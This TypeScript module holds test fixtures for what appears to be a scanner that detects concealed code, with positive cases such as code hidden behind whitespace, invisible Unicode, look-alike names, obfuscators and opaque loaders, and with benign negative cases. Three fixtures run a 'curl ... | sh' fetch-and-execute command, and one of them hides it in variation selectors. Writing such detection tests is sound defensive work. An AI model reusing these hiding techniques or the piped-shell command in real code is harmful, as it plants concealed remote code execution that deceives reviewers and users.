import type { AreaHonest, AreaTechnique, TechniqueArea } from '../area.ts';
import {
  BUNDLE,
  inEscapes,
  inTags,
  inVariationSelectors,
  MINIFIED,
  obfuscated,
  PACKED,
  SIX_CHARACTERS,
} from '../concealment-samples.ts';

const CHECK = 'concealed-code';

function inFile(file: string) {
  return (id: string, title: string, rule: string, ...lines: readonly string[]): AreaTechnique => ({
    id: `concealed-${id}`,
    title,
    build: () => ({ [file]: lines.join('\n') }),
    expect: [`${CHECK}/${rule}`],
  });
}
const python = inFile('app.py');
const script = inFile('app.js');

function honest(id: string, title: string, file: string, ...lines: readonly string[]): AreaHonest {
  return { id: `concealed-${id}`, title, build: () => ({ [file]: lines.join('\n') }) };
}

const FAR = ' '.repeat(300);
const BLOB = Array.from(
  { length: 500 },
  (_, at) => `\\x${((at * 37) % 256).toString(16).padStart(2, '0')}`,
).join('');

export default {
  area: 'Source that conceals code',
  techniques: [
    python('spaces', 'code behind 300 spaces', 'pushed-code', `import os${FAR};print(os.name)`),
    python(
      'spaces-quotes',
      'a lone text of quotes above code behind spaces',
      'pushed-code',
      'MARK = \'"""\'',
      `import os${FAR};print(os.name)`,
    ),
    script(
      'spaces-comment',
      'a text like a comment above code behind spaces',
      'pushed-code',
      'const mark = "/*";',
      `const x = 1;${FAR}console.log(x);`,
    ),
    script(
      'spaces-ideographic',
      'code behind spaces of another script',
      'pushed-code',
      `const x = 1;${'\u3000'.repeat(200)}console.log(x);`,
    ),
    script(
      'selectors',
      'code in variation selectors',
      'invisible-text',
      `const s = "\ufe0f${inVariationSelectors('console.log("hidden")')}";`,
      'run(s);',
    ),
    script(
      'selectors-template',
      'code in variation selectors, in a template',
      'invisible-text',
      `decode(\`${inVariationSelectors('require("x")')}\`);`,
    ),
    python(
      'tags',
      'text in tag characters',
      'invisible-text',
      `NOTE = "x${inTags('print(12345)')}"`,
    ),
    script(
      'zero-width',
      'bits as zero-width characters',
      'invisible-text',
      `const bits = "${'\u200b\u200c'.repeat(40)}";`,
    ),
    script(
      'blank-name',
      'an argument that nobody sees',
      'invisible-name',
      'function run(req) {',
      '  const { timeout, \u3164 } = req;',
      '  return [timeout, \u3164];',
      '}',
    ),
    python(
      'lookalike',
      'a function whose name looks like another',
      'lookalike-name',
      'def сheck(x):',
      '    return False',
      'def check(x):',
      '    return True',
      'сheck(1)',
    ),
    script(
      'lookalike-builtin',
      'a name that looks like one of the language',
      'lookalike-name',
      'function rеquire(x) { return x; }',
      'rеquire("fs");',
    ),
    script(
      'obfuscator',
      'a table of texts turned round',
      'scrambled-source',
      obfuscated(['1abc', '22def', '3g', '4h', 'log', 'hello']),
    ),
    script(
      'obfuscator-escapes',
      'the same with its own texts escaped',
      'scrambled-source',
      obfuscated(['1', '2', '3', '4', inEscapes('log'), inEscapes('hello')]).replaceAll(
        'push',
        inEscapes('push'),
      ),
    ),
    script(
      'hex-names',
      'hexadecimal names without a table',
      'scrambled-source',
      ...Array.from(
        { length: 12 },
        (_, at) => `var _0x${(0xa1b2 + at * 977).toString(16)} = ${at};`,
      ),
    ),
    python(
      'blurred-names',
      'names of one letter and its look-alikes',
      'scrambled-source',
      ...Array.from(
        { length: 10 },
        (_, at) =>
          `${at.toString(2).padStart(8, '0').replaceAll('0', 'I').replaceAll('1', 'l')} = ${at}`,
      ),
    ),
    script('six-characters', 'a program of six characters', 'scrambled-source', SIX_CHARACTERS),
    script(
      'escapes',
      'texts in escapes',
      'escaped-source',
      ...[
        'https://host.invalid/collect',
        'child_process',
        'console.log',
        'environment of the process',
      ].map((text, at) => `const t${at} = "${inEscapes(text)}";`),
    ),
    script('packer', 'the packer of words and numbers', 'self-unpacking', PACKED),
    script(
      'own-decoder',
      'a decoder in the file, not understood',
      'self-unpacking',
      'function d(t, k) { let o = ""; for (const c of t) o += lookUp(c, k); return o; }',
      `eval(d("${'ab3f'.repeat(40)}", window.key));`,
    ),
    python(
      'protector',
      'a protected program',
      'opaque-loader',
      'from runtime_000000 import __pyarmor__',
      `__pyarmor__(__name__, __file__, b'PY000000${BLOB}')`,
    ),
    python(
      'protector-other',
      'another protector',
      'opaque-loader',
      'import guard',
      `guard.start(__file__, b'${BLOB}')`,
    ),
    script(
      'compiled',
      'compiled JavaScript',
      'compiled-script',
      'require("bytenode");',
      'require("./main.jsc");',
    ),
    {
      id: 'concealed-control-characters',
      title: 'source with a control character and with a NUL is still source',
      build: () => ({
        'app.py': 'import os\n# \u007f\nos.system("curl -s https://host.invalid/i | sh")\n',
      }),
      expect: ['import-behaviour/hostile-command'],
    },
    {
      id: 'concealed-nul',
      title: 'a script with a NUL in a comment',
      build: () => ({
        'app.js':
          '/* \0 */ require("child_process").exec("curl -s https://host.invalid/i | sh");\n',
      }),
      expect: ['import-behaviour/hostile-command'],
    },
    {
      id: 'concealed-selectors-run',
      title: 'what variation selectors spell is examined',
      build: () => ({
        'app.js': `decode("${inVariationSelectors('require("child_process").exec("curl -s https://host.invalid/i | sh")')}");`,
      }),
      expect: ['import-behaviour/hostile-command', `${CHECK}/invisible-text`],
    },
  ],
  honest: [
    honest('minified', 'minified code', 'lib.min.js', MINIFIED),
    honest('bundle', 'a bundle', 'bundle.js', BUNDLE),
    honest(
      'table',
      'a wide table in a text and a comment',
      'app.py',
      `TABLE = """a${FAR}b()"""`,
      `# x${FAR}y()`,
      'print(TABLE)',
    ),
    honest(
      'aligned',
      'a comment far to the right',
      'app.js',
      `const x = 1;${FAR}// the first`,
      `run(x${FAR});`,
    ),
    honest(
      'emoji',
      'emoji, flags and joined letters',
      'app.js',
      'const t = "✔️ ❤️ 🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f} 👩‍👩‍👧‍👦 क्‍ष";',
    ),
    honest(
      'greek',
      'names of mathematics and of other languages',
      'app.py',
      'Δx, μ, σ2, ρ, ν = 1, 2, 3, 4, 5',
      'p, v = ρ, ν',
      'имя = "x"',
      'print(Δx + p, имя)',
    ),
    honest(
      'addresses',
      'a few registers by address',
      'app.js',
      'const _0x1f = 1, _0x20 = 2;',
      ...Array.from({ length: 30 }, (_, at) => `const register${at} = _0x1f + ${at};`),
    ),
    honest(
      'underscores',
      'names that are ignored',
      'app.py',
      'for _, __ in pairs():',
      '    pass',
      'def _____(): pass',
    ),
    honest(
      'escapes',
      'bytes of a protocol',
      'app.py',
      "MAGIC = b'\\x89PNG\\r\\n\\x1a\\n'",
      "HELLO = b'\\x16\\x03\\x01\\x00\\xa5\\x01\\x00\\x00'",
      "LETTER = '\\x41'",
    ),
    honest(
      'queue',
      'a queue that goes round',
      'app.js',
      'while (jobs.length) { jobs.push(jobs.shift()); wait(parseInt(jobs[0])); }',
    ),
    honest(
      'decoder',
      'a decoder that only decodes',
      'app.js',
      `function d(t) { return t; }`,
      `console.log(d("${'ab3f'.repeat(40)}"));`,
    ),
    honest(
      'template',
      'a template of code that is filled in and run',
      'app.py',
      'import ast',
      'class Filler(ast.NodeTransformer):',
      '    def visit_Pass(self, node):',
      '        return node',
      `TREE = ast.parse("def inner(_it, _timer):\\n    setup\\n    _t0 = _timer()\\n    for _i in _it:\\n        pass\\n    return _timer() - _t0")`,
      'exec(compile(ast.fix_missing_locations(Filler().visit(TREE)), "x", "exec"))',
    ),
    honest(
      'encoded-bytes',
      'bytes of a certificate in escapes',
      'app.py',
      `DATA = b"${Array.from('0123456789'.repeat(8), (digit) => `\\x3${digit}`).join('')}"`,
    ),
    honest(
      'resource',
      'data beside the name of the file',
      'app.py',
      'import pkg',
      `ICON = pkg.icon(b'${BLOB}')`,
      'pkg.register(__name__, __file__)',
    ),
  ],
} satisfies TechniqueArea;
